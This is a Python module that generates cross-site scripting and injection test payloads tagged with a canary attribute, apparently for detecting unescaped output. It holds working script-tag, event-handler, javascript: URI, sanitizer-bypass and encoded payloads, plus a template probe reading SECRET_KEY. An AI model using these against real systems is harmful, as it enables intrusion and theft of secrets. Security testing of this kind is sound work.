"""Texts that run or load something wherever they are taken for markup, an attribute, an address or a script."""

from __future__ import annotations

from itertools import product
from typing import Final

ELSEWHERE: Final = "//canary.example/x"
MARK: Final = "data-canary"
"""An attribute of every element: one that is found in a page was not shown as text."""
_RUN: Final = ("alert(1)", "alert`1`", "parent.alert(1)", "top['al'+'ert'](1)", "confirm(1)", "prompt(1)", "print()")
_TAGS: Final = (
    "<script {mark}>{run}</script>",
    "<ScRiPt {mark}>{run}//",
    "<img {mark} src=x onerror={run}>",
    "<img/{mark}/src=`x`/onerror={run}>",
    "<svg {mark} onload={run}>",
    "<svg><script {mark}>{run}</script></svg>",
    "<body {mark} onload={run}>",
    "<details {mark} open ontoggle={run}>",
    "<input {mark} autofocus onfocus={run}>",
    "<video {mark}><source onerror={run}></video>",
    "<marquee {mark} onstart={run}>",
    "<iframe {mark} srcdoc='<script>{run}</script>'></iframe>",
    "<iframe {mark} src='javascript:{run}'></iframe>",
    "<a {mark} href='javascript:{run}'>x</a>",
    "<form {mark} action='javascript:{run}'><button>x</button></form>",
    "<object {mark} data='javascript:{run}'></object>",
    "<math><mtext><table><mglyph><style><img {mark} src=x onerror={run}>",
    "<template><s {mark}></template><img {mark} src onerror={run}>",
    "<p {mark} x-data x-init={run}>",
    "<p {mark} x-data x-on:click={run} hx-get=" + ELSEWHERE + " hx-trigger=load>",
)
_OUT_OF: Final = ("", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "--></style>", "]]>", "`}")
_OTHERS: Final = (
    f"<link {MARK} rel=stylesheet href={ELSEWHERE}>",
    f"<meta {MARK} http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base {MARK} href={ELSEWHERE}>",
    f"<img {MARK} src={ELSEWHERE}>",
    f"<style {MARK}>@import '{ELSEWHERE}';</style>",
    f'" style="background:url({ELSEWHERE})" {MARK}="',
    f"' onmouseover='alert(1)' {MARK}='",
    f'" autofocus onfocus="alert(1)" {MARK}="',
    f'" x-init="alert(1)" x-data {MARK}="',
    f'" hx-get="{ELSEWHERE}" hx-trigger="load" {MARK}="',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{% debug %}{{ settings.SECRET_KEY }}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u00adipt>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "</script><!--",
    "\u202e<tpircs>)1(trela</tpircs>",
    "[x](javascript:alert(1))",
)
SHORT: Final = ("<s onx=1>", "'\"><s>", "<b>x</b>", "{{7*7}}")
"""For fields that take no more."""


def payloads() -> list[str]:
    """Return all of them: every element after every beginning, with scripts in turn."""
    combined = enumerate(product(_OUT_OF, _TAGS))
    written = (out + tag.format(mark=MARK, run=_RUN[n % len(_RUN)]) for n, (out, tag) in combined)
    return [*written, *_OTHERS]
